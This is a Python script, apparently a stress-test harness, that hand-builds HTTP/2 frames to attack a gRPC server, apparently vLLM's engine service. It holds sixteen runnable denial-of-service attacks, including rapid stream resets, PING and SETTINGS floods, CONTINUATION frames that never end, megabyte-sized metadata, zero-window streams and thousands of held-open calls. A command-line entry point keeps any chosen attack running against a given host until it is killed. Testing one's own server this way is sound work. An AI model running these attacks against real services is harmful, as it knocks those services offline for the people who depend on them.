"""gRPC client of bare HTTP/2 frames, for input that no library sends: calls without their message, streams reset at
once, windows of zero, floods of frames. Header blocks are literals: nothing is compressed.

Run as a program it holds one attack of ATTACKS until it is killed: `raw_grpc.py ATTACK HOST:PORT [SOURCE [KEY]]`.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Sequence

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW = 4
GENERATE = "/vllm.grpc.engine.VllmEngine/Generate"
WATCH = "/grpc.health.v1.Health/Watch"
INFO = "/vllm.grpc.engine.VllmEngine/GetModelInfo"
REFLECT = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"

Pairs = Sequence[tuple[bytes, bytes]]


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def integer(value: int, bits: int) -> bytes:
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    out, value = [most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def literal(name: bytes, value: bytes) -> bytes:
    return b"\0" + integer(len(name), 7) + name + integer(len(value), 7) + value


def head(path: str, more: Pairs = ()) -> bytes:
    """Return the header block of a call."""
    pairs = [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *more,
    ]
    return b"".join(literal(*pair) for pair in pairs)


def message(body: bytes) -> bytes:
    return b"\0" + struct.pack(">I", len(body)) + body


def bearer(key: str) -> Pairs:
    return [(b"authorization", b"Bearer " + key.encode())] if key else []


class Raw:
    """One connection from `source`. A thread of its own reads the input (`reads`), or nothing does."""

    def __init__(
        self, address: tuple[str, int], source: str = "", *, settings: bytes = b"", reads: bool = True, buffer: int = 0
    ) -> None:
        self.sock = socket.socket()
        if buffer:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        if source:
            self.sock.bind((source, 0))
        self.sock.settimeout(20)
        self.sock.connect(address)
        self.stream = -1
        self.received = 0
        self.ended = False
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        if reads:
            threading.Thread(target=self._read, daemon=True).start()

    def open(self, path: str, more: Pairs = (), *, flags: int = END_HEADERS) -> bytes:
        """Return the frame that opens another call."""
        self.stream += 2
        return frame(HEADERS, flags, self.stream, head(path, more))

    def send(self, data: bytes) -> bool:
        """Whether the connection still took it."""
        try:
            self.sock.sendall(data)
        except OSError:
            self.ended = True
        return not self.ended

    def _read(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.settimeout(None)
            while data := self.sock.recv(1 << 16):
                self.received += len(data)
        self.ended = True


Attack = Callable[[tuple[str, int], str, str], None]


def nothing(address: tuple[str, int], source: str, key: str) -> None:
    """No attack, to compare with."""
    hold()


def opened(address: tuple[str, int], source: str, key: str, *, path: str = GENERATE, connections: int = 1) -> None:
    """1,000 calls on each connection that never send their message."""
    held = []
    for _ in range(connections):
        raw = Raw(address, source)
        held.append(raw)
        for _ in range(20):  # at a pace at which the core does not refuse the surplus of a burst
            raw.send(b"".join(raw.open(path, bearer(key)) for _ in range(50)))
            time.sleep(0.02)
    hold()


def opened_5000(address: tuple[str, int], source: str, key: str) -> None:
    opened(address, source, key, connections=5)


def watches(address: tuple[str, int], source: str, key: str) -> None:
    """1,000 Watch streams."""
    raw = Raw(address, source)
    for _ in range(1000):
        raw.send(raw.open(WATCH) + frame(DATA, END_STREAM, raw.stream, message(b"")))
    hold()


def reflections(address: tuple[str, int], source: str, key: str) -> None:
    """1,000 reflection streams that ask once and stay."""
    raw = Raw(address, source)
    for _ in range(1000):
        raw.send(raw.open(REFLECT, bearer(key)) + frame(DATA, 0, raw.stream, message(b"\x3a\0")))
    hold()


def half_closed(address: tuple[str, int], source: str, key: str) -> None:
    """5,000 calls that end without a message."""
    held = []
    for _ in range(5):
        raw = Raw(address, source)
        held.append(raw)
        for _ in range(20):
            raw.send(b"".join(raw.open(INFO, bearer(key), flags=END_HEADERS | END_STREAM) for _ in range(50)))
            time.sleep(0.02)
    hold()


def resets(address: tuple[str, int], source: str, key: str) -> None:
    """Calls that are reset as soon as they are opened, without an end."""

    def rapid(raw: Raw) -> bytes:
        cancel = struct.pack(">I", 8)
        return b"".join(raw.open(GENERATE, bearer(key)) + frame(RST, 0, raw.stream, cancel) for _ in range(100))

    again(address, source, rapid)


def pings(address: tuple[str, int], source: str, key: str) -> None:
    """PING frames without an end; the answers are not read."""
    again(address, source, lambda raw: frame(PING, 0, 0, b"12345678") * 1000, reads=False)


def settings(address: tuple[str, int], source: str, key: str) -> None:
    """SETTINGS frames without an end; the answers are not read."""
    again(
        address,
        source,
        lambda raw: frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 65535)) * 1000,
        reads=False,
    )


def metadata(address: tuple[str, int], source: str, key: str) -> None:
    """Calls with 60,000 bytes of metadata each, in 600 pairs."""
    pairs = [*bearer(key), *((b"x-%d" % i, b"v" * 90) for i in range(600))]
    again(address, source, lambda raw: continued(raw, head(GENERATE, pairs)))


def huge_metadata(address: tuple[str, int], source: str, key: str) -> None:
    """Calls with 1 MB of metadata each."""
    again(address, source, lambda raw: continued(raw, head(GENERATE, [(b"x-huge", b"v" * 1_000_000)])))


def odd_metadata(address: tuple[str, int], source: str, key: str) -> None:
    """Names and values that are neither ASCII nor UTF-8."""
    pairs = [(b"x-odd", b"\xff\xfe"), (b"authorization", b"Bearer \xff\x80"), (b"x-odd-bin", b"!!!\xff")]
    again(address, source, lambda raw: raw.open(GENERATE, pairs) * 1)


def continuations(address: tuple[str, int], source: str, key: str) -> None:
    """A header block that never ends."""

    def more(raw: Raw) -> bytes:
        raw.stream = max(raw.stream, 1)
        begin = frame(HEADERS, 0, 1, head(GENERATE)) if not raw.received and not getattr(raw, "begun", False) else b""
        raw.begun = True  # type: ignore[attr-defined]
        return begin + frame(CONTINUATION, 0, 1, literal(b"x-more", b"v" * 100) * 100) * 10

    again(address, source, more)


def streams(address: tuple[str, int], source: str, key: str) -> None:
    """10,000 streams on one connection, beyond the server's SETTINGS."""
    raw = Raw(address, source)
    for _ in range(100):
        raw.send(b"".join(raw.open(GENERATE, bearer(key)) for _ in range(100)))
    hold()


def unread(address: tuple[str, int], source: str, key: str) -> None:
    """1,000 streamed answers on windows of zero bytes."""
    from smg_grpc_proto import vllm_engine_pb2 as pb

    raw = Raw(address, source, settings=struct.pack(">HI", INITIAL_WINDOW, 0))
    for i in range(1000):
        request = pb.GenerateRequest(
            request_id=f"{source}-{i}",
            stream=True,
            tokenized=pb.TokenizedInput(input_ids=[5, 6, 7]),
            sampling_params=pb.SamplingParams(max_tokens=50, ignore_eos=True),
        )
        body = message(request.SerializeToString())
        raw.send(raw.open(GENERATE, bearer(key)) + frame(DATA, END_STREAM, raw.stream, body))
    hold()


def deaf(address: tuple[str, int], source: str, key: str) -> None:
    """Connections whose refusals are never read, with the smallest buffer there is."""
    held = [Raw(address, source, reads=False, buffer=1) for _ in range(20)]
    while True:
        for raw in held:
            raw.sock.setblocking(False)
            with contextlib.suppress(OSError):
                raw.sock.sendall(b"".join(raw.open(INFO, bearer("wrong")) for _ in range(50)))
        time.sleep(0.05)


def again(address: tuple[str, int], source: str, make: Callable[[Raw], bytes], *, reads: bool = True) -> None:
    """Send the output of `make` without an end, on a new connection whenever the server ends one."""
    raw = Raw(address, source, reads=reads)
    while True:
        if not raw.send(make(raw)) or raw.stream > 2_000_000_000:
            with contextlib.suppress(OSError):
                raw.sock.close()
                time.sleep(0.01)
                raw = Raw(address, source, reads=reads)


def continued(raw: Raw, block: bytes, size: int = 16_000) -> bytes:
    """Return a call whose header block takes several frames."""
    raw.stream += 2
    parts = [block[at : at + size] for at in range(0, len(block), size)]
    frames = [frame(HEADERS if i == 0 else CONTINUATION, 0, raw.stream, part) for i, part in enumerate(parts[:-1])]
    kind = CONTINUATION if frames else HEADERS
    return b"".join([*frames, frame(kind, END_HEADERS, raw.stream, parts[-1])])


def hold() -> None:
    print("holding", flush=True)
    while True:
        time.sleep(3600)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        nothing,
        opened,
        opened_5000,
        watches,
        reflections,
        half_closed,
        resets,
        pings,
        settings,
        metadata,
        huge_metadata,
        odd_metadata,
        continuations,
        streams,
        unread,
        deaf,
    )
}


def main() -> None:
    name, address, *rest = sys.argv[1:]
    host, _, port = address.rpartition(":")
    source, key = (*rest, "", "")[:2]
    ATTACKS[name]((host, int(port)), source, key)


if __name__ == "__main__":
    main()
